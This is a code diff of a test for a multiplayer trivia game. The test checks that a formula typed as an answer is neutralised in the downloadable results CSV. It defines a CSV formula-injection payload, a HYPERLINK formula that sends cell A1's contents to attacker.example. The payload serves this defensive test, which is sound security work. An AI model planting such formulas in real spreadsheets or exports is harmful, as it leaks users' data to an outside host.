@@ -6,7 +6,7 @@ import Papa from "papaparse";
 import type { Question } from "../../src/game/types";
 import { call, startTestApp, type TestApp } from "../support/app";
 import { FakeClock } from "../support/fake-clock";
-import { exactJudge, party, questionsFrom, teamSelect, waitForPhase } from "../support/rest";
+import { exactJudge, party, questionsFrom, waitForPhase } from "../support/rest";
 
 const ATTACK = '=HYPERLINK("http://attacker.example/?"&A1,"Click for bonus")';
 const ONE: Question[] = [{ category: "Space", question: "Which planet is called the Red Planet?", answer: "Mars", aliases: [] }];
@@ -24,8 +24,6 @@ const cells = async (res: Response) => Papa.parse<string[]>((await res.text()).r
 test("a formula typed as an answer reaches the results CSV neutralised, and only players of the lobby may download it", async () => {
   const { code, host, players } = await party(app, "Mallory");
   const mallory = players[0]!;
-  await teamSelect(app, host, "blue", true);
-  await teamSelect(app, mallory, "red", true);
   expect((await post("updateSettings", host.token, { settings: { rounds: 1 } })).status).toBe(200);
   expect((await post("start", host.token)).status).toBe(200);
   expect((await post("startRound", host.token, {})).status).toBe(200);
